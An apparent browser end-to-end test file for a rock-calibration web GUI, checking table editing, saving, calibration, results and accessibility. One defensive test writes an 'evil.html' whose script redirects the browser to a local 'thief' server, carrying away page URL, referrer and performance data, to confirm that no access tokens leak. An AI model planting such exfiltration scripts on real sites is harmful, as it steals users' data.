// The page of `phyllite gui` in Debian's Chromium, by visible labels alone: from a pasted table to a calibrated rock and a test on it.
// `make browser` runs it; PHYLLITE names the program, CHROMIUM the browser. The tests follow one another on one small rock, whose specimens
// take long enough to be seen in the press: what is shown of it is written once in a second.
import assert from "node:assert/strict";
import { once } from "node:events";
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { launch, showCommands, startGui, stopGui, within } from "./pages.mjs";

const folder = mkdtempSync(join(tmpdir(), "phyllite-gui-"));
const file = (name) => readFileSync(join(folder, name), "utf8");
const model = `[specimen]\nwidth = "15 mm"\nheight = "30 mm"\n[packing]\nn_grains = 1160\n[[bedding]]\nspacing = "3 mm"\nrule = "crossing"\n[engine]\nprecision = "float"\n`;
const copied = "theta [deg]\tE [GPa]\tUCS [MPa]\r\n0\t8,9\t92,5\r\n45\t7,3\t5o\r\n90\t53,6\t102,5\r\n"; // out of a spreadsheet; one letter for a digit

let browser;
let program;
let address;
let page; // the tab that most is done in

/** Waits for the address that the program prints. */
function start(port = 0) {
  const started = startGui(folder, port);
  program = started.program;
  return started.address;
}

/** Whatever goes wrong on a page or wants another address is in `trouble`. */
function watch(tab) {
  tab.trouble = [];
  tab.on("console", (m) => ["error", "warning"].includes(m.type()) && !/status of 409|ERR_CONNECTION_REFUSED|GPU stall/.test(m.text()) && tab.trouble.push(m.text()));
  tab.on("pageerror", (e) => tab.trouble.push(String(e)));
  tab.on("request", (r) => !r.url().startsWith(new URL(address).origin) && !/^(data|blob):/.test(r.url()) && tab.trouble.push(r.url()));
  return tab;
}

async function open(context) {
  const tab = watch(await context.newPage());
  tab.setDefaultTimeout(15000);
  await tab.goto(address);
  await tab.getByRole("heading", { name: "Rocks", level: 2 }).waitFor();
  return tab;
}

const newContext = async (options = {}) => {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, permissions: ["clipboard-read", "clipboard-write"], ...options });
  await context.addInitScript(showCommands);
  return context;
};
const button = (name, tab = page) => tab.getByRole("button", { name, exact: true });
const box = (name, tab = page) => tab.getByRole("textbox", { name, exact: true });
const shown = (text, options = {}) => page.getByText(text).first().waitFor(options);
const cell = (heading, row, tab = page) => tab.getByLabel(new RegExp(`^${heading.replace(/[[\]]/g, "\\$&")}, line \\d+$`)).nth(row - 1); // row 1: below the headings
const setTable = async (text, tab = page) => {
  if (await button("Edit as text", tab).isVisible()) await button("Edit as text", tab).click();
  await box("Table as text", tab).fill(text);
};

before(async () => {
  writeFileSync(join(folder, "model.toml"), model);
  address = await start();
  browser = await launch();
  page = await open(await newContext());
});

after(async () => {
  await browser?.close();
  await stopGui(program);
  rmSync(folder, { recursive: true, force: true });
});

test("a pasted table is checked while typing, beside its cells", async () => {
  await page.getByLabel("Name of the new rock").fill("slate");
  await page.keyboard.press("Enter");
  await page.getByLabel("Heading of column 1").focus();
  assert.equal(await cell("E [GPa]", 7).count(), 1, "the program's empty table");
  await page.evaluate((text) => navigator.clipboard.writeText(text), copied);
  await page.keyboard.press("Control+V");
  const wrong = cell("UCS [MPa]", 2);
  assert.equal(await wrong.inputValue(), "5o");
  await within(10, async () => (await wrong.getAttribute("aria-invalid")) === "true");
  const says = await page.locator(`[id="${await wrong.getAttribute("aria-describedby")}"]`).textContent();
  assert.match(says, /UCS.*5o/);
  assert.equal(await cell("UCS [MPa]", 1).getAttribute("aria-invalid"), null);
  await shown("1 problem to mend");
  await cell("UCS [MPa]", 1).focus(); // by keyboard from here
  await page.keyboard.press("ArrowDown");
  await page.keyboard.type("56,5");
  await page.keyboard.press("Enter");
  assert.ok(await cell("UCS [MPa]", 3).evaluate((e) => e === document.activeElement));
  await shown("No problems");
  for (const name of ["E [GPa]", "UCS [MPa]"]) await page.getByRole("img", { name, exact: true }).waitFor();
  await page.getByRole("table").filter({ hasText: "sigma_c" }).first().waitFor(); // what the data determine
});

test("nothing is written before it is saved; a choice changes its line", async () => {
  assert.ok(!file("slate.csv").includes("56,5"));
  await shown("slate: not saved");
  await box("Rock file as text").fill(`name = "slate"\ndata = "slate.csv"\nrecipe = "model.toml"   # small\n`);
  await page.getByLabel("What E is").selectOption("average");
  assert.match(await box("Rock file as text").inputValue(), /recipe = "model.toml" {3}# small\nE_is = "average"\n/);
  await shown("No problems");
  await page.keyboard.press("Control+S");
  await shown("slate: saved");
  assert.ok(file("slate.csv").endsWith("\ntheta [deg];E [GPa];UCS [MPa]\n0;8,9;92,5\n45;7,3;56,5\n90;53,6;102,5\n"));
  assert.match(file("slate.toml"), /E_is = "average"/);
  await shown("phyllite rock check slate.toml");
});

test("comments and blanks of the text survive cells; Undo takes a step back", async () => {
  await setTable("# by hand\ntheta [deg]; E [GPa]\n0;  8.9\n\n90;  50\n");
  await button("Edit as cells").click();
  await page.getByLabel("E [GPa], line 5").fill("51");
  await button("Edit as text").click();
  assert.equal(await box("Table as text").inputValue(), "# by hand\ntheta [deg]; E [GPa]\n0;  8.9\n\n90;  51\n");
  await button("Undo").click();
  assert.match(await box("Table as text").inputValue(), /90; {2}50/);
  await button("Discard changes").click();
  await shown("slate: saved");
});

test("a reload and other tabs keep what is typed", async () => {
  const saved = file("slate.csv");
  await setTable(`# typed\n${saved}`);
  await page.reload();
  await shown("slate: not saved");
  await page.getByLabel("Line 1, a comment").waitFor();
  const second = await open(page.context());
  await second.getByRole("button", { name: /^slate/ }).first().click();
  assert.equal(await second.getByLabel("Line 1, a comment").inputValue(), "# typed");
  await second.getByLabel("Line 1, a comment").fill("# typed in the second tab");
  await within(5, async () => (await page.getByLabel("Line 1, a comment").inputValue()) === "# typed in the second tab");
  await button("Save", second).click();
  await shown("slate: saved");
  assert.equal(file("slate.csv"), `# typed in the second tab\n${saved}`);
  assert.deepEqual(second.trouble, []);
  await second.close();
});

test("files that were changed elsewhere are shown, and the user chooses", async () => {
  const elsewhere = await open(await newContext()); // another browser: it shares no drafts
  await elsewhere.getByRole("button", { name: /^slate/ }).first().click();
  await elsewhere.getByLabel("Line 1, a comment").fill("# elsewhere");
  await page.getByLabel("Line 1, a comment").fill("# here");
  await button("Save").click();
  await shown("slate: saved");
  await button("Save", elsewhere).click();
  await elsewhere.getByRole("heading", { name: "The files have been changed elsewhere" }).waitFor();
  assert.match(file("slate.csv"), /^# here\n/);
  await elsewhere.getByText("# here").waitFor(); // both are seen
  await button("Keep mine", elsewhere).click();
  await within(5, () => file("slate.csv").startsWith("# elsewhere\n"));
  await within(10, async () => (await page.getByLabel("Line 1, a comment").inputValue()) === "# elsewhere");
  await page.getByLabel("Line 1, a comment").fill("# here again");
  writeFileSync(join(folder, "slate.csv"), file("slate.csv").replace("# elsewhere", "# by an editor"));
  await button("Take the file’s").click();
  assert.equal(await page.getByLabel("Line 1, a comment").inputValue(), "# by an editor");
  await shown("slate: saved");
  assert.deepEqual(elsewhere.trouble, []);
  await elsewhere.context().close();
});

test("files that are gone leave what is shown, and are written again", async () => {
  const [table, toml] = [file("slate.csv"), file("slate.toml")];
  rmSync(join(folder, "slate.csv"));
  rmSync(join(folder, "slate.toml"));
  await shown("The files of this rock are gone; Save writes them again.");
  assert.equal(await page.getByLabel("Line 1, a comment").inputValue(), "# by an editor");
  assert.ok(!(await button("Start calibration").isVisible()));
  await button("Save").click();
  await shown("slate: saved");
  assert.deepEqual([file("slate.csv"), file("slate.toml")], [table, toml]);
  await button("Start calibration").waitFor();
});

test("every option of a calibration has its control, which says what it means and goes into the command", async () => {
  const project = await page.evaluate(() => fetch("/api/project", { headers: { "X-Phyllite-Token": new URLSearchParams(location.search).get("token") } }).then((r) => r.json()));
  const section = page.getByRole("region", { name: "Calibration" });
  const mine = project.options.filter((o) => o.on_page);
  assert.ok(mine.length >= 6);
  for (const o of mine) {
    const control = section.getByLabel(o.title, { exact: true });
    assert.equal(await section.locator(`[id="${await control.getAttribute("aria-describedby")}"]`).textContent(), o.meaning);
    const other = o.kind === "choice" ? o.choices.find((c) => c !== o.default) : "72";
    const set = (value) => (o.kind === "boolean" ? control.setChecked(value) : o.kind === "choice" ? control.selectOption(value) : control.fill(value));
    await set(o.kind === "boolean" ? true : other);
    await shown(`phyllite calibrate slate.toml --out slate-calibration ${o.word}${o.kind === "boolean" ? "" : ` ${other}`}`);
    await set(o.kind === "boolean" ? false : String(o.default));
  }
  await shown(/^phyllite calibrate slate.toml --out slate-calibration$/);
});

test("a calibration is started, watched, stopped, gone on with", async () => {
  await page.getByLabel("Largest number of tests").fill("5,5");
  await shown("A whole number from 1 to 1000000.");
  await page.getByLabel("Largest number of tests").fill("54");
  await shown("phyllite calibrate slate.toml --out slate-calibration --max-tests 54");
  await button("Start calibration").click();
  await shown("Running.");
  await shown(/so far, /);
  await page.getByRole("progressbar").waitFor();
  await page.reload(); // goes on without the page
  assert.equal(await page.getByLabel("Largest number of tests").inputValue(), "54");
  await page.getByRole("img", { name: "Specimen in the press" }).waitFor({ timeout: 120000 });
  const stopping = await page.evaluateHandle(() => { // seen as it is written: it may be gone before anybody looks
    const seen = { word: false };
    const look = () => (seen.word ||= [...document.querySelectorAll("[role=status]")].some((e) => e.textContent === "Stopping; what is finished is kept."));
    new MutationObserver(look).observe(document.body, { childList: true, subtree: true, characterData: true });
    return seen;
  });
  await button("Stop").click();
  await shown("Stopped; what is finished is kept.", { timeout: 30000 });
  assert.ok(await stopping.evaluate((seen) => seen.word));
  assert.ok(existsSync(join(folder, "slate-calibration/runs.sqlite")));
  await shown(/phyllite calibrate slate.toml .*--resume/);
  await button("Go on").click();
  await shown("Running.");
  await page.getByRole("img", { name: "sigma_c", exact: true }).waitFor({ timeout: 120000 });
  await shown("Finished.", { timeout: 400000 }); // 17 s of CPU, on a machine that may be busy
});

test("the verdict stands there, the report opens", async () => {
  const { verdict } = JSON.parse(file("slate-calibration/calibration.json"));
  await shown(verdict.sentence.replaceAll("--max-tests", "“Largest number of tests”")); // the page has fields, not options
  const [report] = await Promise.all([page.waitForEvent("popup"), page.getByRole("link", { name: "Open the report", exact: true }).click()]);
  watch(report);
  await report.getByRole("heading", { level: 1 }).waitFor();
  assert.match(await report.title(), /slate.*Phyllite report/);
  assert.deepEqual(report.trouble, []);
  await report.close();
});

test("what a script in a file can carry away opens that one file", async () => {
  const taken = [];
  const thief = createServer((request, response) => response.end(String(taken.push(decodeURIComponent(request.url))))).listen(0, "127.0.0.1");
  await once(thief, "listening");
  const known = "JSON.stringify([location.href, document.referrer, name, history.length, performance.getEntries()])";
  writeFileSync(join(folder, "evil.html"), `<script>location.href = "http://127.0.0.1:${thief.address().port}/?" + encodeURIComponent(${known})</script>`);
  writeFileSync(join(folder, "other.html"), "x");
  const origin = new URL(address).origin;
  const token = new URL(address).searchParams.get("token");
  const project = await (await fetch(`${origin}/api/project`, { headers: { "X-Phyllite-Token": token } })).json();
  const tab = await browser.newPage();
  await tab.goto(`${origin}/files/evil.html?token=${project.file_token}`).catch(() => {}); // it leads elsewhere at once
  await within(10, () => taken.some((url) => url.includes("evil.html")));
  assert.ok(!taken.join().includes(project.file_token) && !taken.join().includes(token), taken.join());
  const key = taken.join().match(/key=\w+/)[0];
  const status = async (path) => (await fetch(`${origin}${path}?${key}`)).status;
  assert.deepEqual([await status("/files/evil.html"), await status("/files/other.html"), await status("/files/slate.csv"), await status("/api/project")], [200, 403, 403, 403]);
  await tab.close();
  thief.close();
});

test("a test on the calibrated rock is chosen, seen and saved as a recipe, run", async () => {
  await page.getByLabel("Kind of test").selectOption({ label: "direct tension (DTS)" });
  await page.getByRole("textbox", { name: "Angles" }).fill("22,5; 45"); // decimal commas
  await within(10, async () => /angles = \["22\.5 deg", "45 deg"\]/.test(await box("Recipe").inputValue()));
  await page.getByRole("textbox", { name: "Angles" }).fill("0 deg");
  await within(10, async () => /kind = "direct_tension"[^]*angles = \["0 deg"\]/.test(await box("Recipe").inputValue()));
  await page.getByLabel("Name of the test").fill("pulled apart");
  await page.getByLabel("Name of the test").fill("pulled");
  await shown("phyllite run slate-tests/pulled.toml --out slate-tests/pulled");
  const recipe = await box("Recipe").inputValue();
  await button("Run the test").click();
  const article = page.getByRole("article", { name: "Test pulled" });
  await article.getByText("Finished.").waitFor({ timeout: 120000 });
  await article.getByRole("table").getByText("peaked").first().waitFor();
  assert.equal(file("slate-tests/pulled.toml").trim(), recipe.trim());
  await article.getByRole("link", { name: "Open the report of pulled" }).waitFor();
});

test("results stand beside laboratory and calibration, broken specimens can be seen", async () => {
  const results = page.getByRole("region", { name: "Results", exact: true });
  const over = results.getByRole("img", { name: /^tensile strength|^DTS|^direct tens/i });
  await over.first().waitFor({ timeout: 20000 }); // no laboratory has it: a chart of its own
  await results.getByRole("img", { name: "UCS [MPa], all results", exact: true }).waitFor();
  await results.getByText("Curves of the tests").waitFor();
  assert.equal(await results.getByText("Over the confining stress").isVisible(), false, "one stress alone was computed");
  await results.getByRole("button", { name: "Show how they broke" }).click();
  await results.getByRole("img", { name: "Specimens of pulled, broken" }).waitFor();
  await results.locator(".cells .foot", { hasText: /MPa/ }).first().waitFor();
  const [download] = await Promise.all([page.waitForEvent("download"), results.getByRole("button", { name: "Save Results of all tests as CSV" }).click()]);
  assert.match(readFileSync(await download.path(), "utf8"), /pulled,0,.*MPa/);
});

test("the bedding is turned by hand and by keys; moduli follow by the direct solution; it can be pressed", async () => {
  const check = page.getByRole("region", { name: "What the table says" });
  const slider = check.getByRole("slider", { name: /^Bedding angle/ });
  await slider.scrollIntoViewIfNeeded();
  await slider.focus();
  await page.keyboard.press("Home");
  assert.equal(await slider.getAttribute("aria-valuetext"), "0 degrees");
  await check.getByText("direct solution").first().waitFor({ timeout: 30000 });
  const E = async () => (await check.locator(".readings").innerText()).match(/E\s+([\d.]+) GPa/)?.[1];
  const flat = Number(await E());
  const canvas = await check.getByRole("img", { name: "Specimen with its bedding" }).boundingBox();
  await page.mouse.move(canvas.x + canvas.width / 2 + 5, canvas.y + canvas.height / 2 - 60);
  await page.mouse.down();
  await page.mouse.move(canvas.x + canvas.width / 2, canvas.y + canvas.height / 2 - 60);
  await page.mouse.up();
  assert.equal(await slider.getAttribute("aria-valuetext"), "90 degrees");
  await within(30, async () => Number(await E()) > flat, "stiffer along the bedding");
  await check.getByRole("button", { name: "Press it" }).click();
  await page.getByRole("article", { name: "Test press-90-deg" }).getByText("Finished.").waitFor({ timeout: 120000 });
});

test("the bar says how far the rock has come", async () => {
  const bar = page.getByRole("navigation", { name: "Sections" });
  for (const text of [/Table\s*saved/, /Check\s*in order/, /Calibrate\s*(calibrated|not|out)/, /Test\s*2 tests made/]) await bar.getByRole("link", { name: text }).waitFor();
});

test("what was undone is done again", async () => {
  const cellOf = cell("UCS [MPa]", 1);
  const before = await cellOf.inputValue();
  await cellOf.fill("99");
  await button("Undo").click();
  assert.equal(await cellOf.inputValue(), before);
  await button("Redo").click();
  assert.equal(await cellOf.inputValue(), "99");
  await cellOf.focus();
  await page.keyboard.press("Control+Z");
  await page.keyboard.press("Control+Y");
  assert.equal(await cellOf.inputValue(), "99");
  await button("Discard changes").click();
  await shown("slate: saved");
});

test("a wrong value of a recipe is said beside it", async () => {
  await page.getByLabel("Kind of test").selectOption({ label: "triaxial / confined (biaxial)" });
  const stress = page.getByRole("textbox", { name: "Confining stress [MPa]" });
  await stress.fill("ten");
  await within(10, async () => (await stress.getAttribute("aria-invalid")) === "true");
  await stress.fill("10");
  await within(10, async () => (await stress.getAttribute("aria-invalid")) === "false");
  assert.match(await box("Recipe").inputValue(), /confining_stress = "10 MPa"/);
});

test("light and dark, 390 to 1920 px: nothing sticks out", async () => {
  const ground = (tab) => tab.evaluate(() => getComputedStyle(document.body).backgroundColor.match(/\d+/g).map(Number)[0]);
  for (const [width, colorScheme] of [[390, "dark"], [820, "light"], [1920, "light"]]) {
    const context = await newContext({ viewport: { width, height: 900 }, colorScheme });
    const tab = await open(context);
    await tab.getByRole("img", { name: "UCS [MPa]", exact: true }).waitFor(); // the only rock is opened at once
    assert.ok(await tab.evaluate(() => document.documentElement.scrollWidth <= innerWidth), `${width} px`);
    assert.equal((await ground(tab)) < 60, colorScheme === "dark");
    assert.deepEqual(tab.trouble, []);
    if (width === 820) {
      await button("Light or dark", tab).click();
      await tab.reload();
      await tab.getByRole("heading", { name: "Rocks", level: 2 }).waitFor();
      assert.ok((await ground(tab)) < 60, "the choice is kept");
    }
    await context.close();
  }
});

test("everything is reached by keyboard", async () => {
  const reached = new Set();
  await page.evaluate(() => document.activeElement.blur());
  for (let i = 0; i < 250; ++i) {
    await page.keyboard.press("Tab");
    reached.add(await page.evaluate(() => document.activeElement.labels?.[0]?.textContent || document.activeElement.getAttribute("aria-label") || document.activeElement.textContent.slice(0, 40)));
  }
  for (const name of ["Light or dark", "Another rock", "Edit as text", "Insert row below", "Rock file as text", "Model of the layers", "Bedding angle: drag it, or the planes", "Press it", "Commands and TOML", "Calibrate anew", "Open the report", "Kind of test", "Recipe", "Run the test"])
    assert.ok(reached.has(name), `${name} among ${[...reached].join(", ")}`);
});

test("when the program is stopped the page says so and keeps the table", async () => {
  await page.getByLabel("Line 1, a comment").fill("# typed without the program");
  program.removeAllListeners("exit");
  program.kill("SIGINT");
  await shown("The program has been stopped.", { timeout: 30000 });
  assert.equal(await page.getByLabel("Line 1, a comment").inputValue(), "# typed without the program");
  address = await start(new URL(address).port);
  await page.goto(address);
  await shown("slate: not saved");
  assert.equal(await page.getByLabel("Line 1, a comment").inputValue(), "# typed without the program");
  assert.deepEqual(page.trouble, []);
});
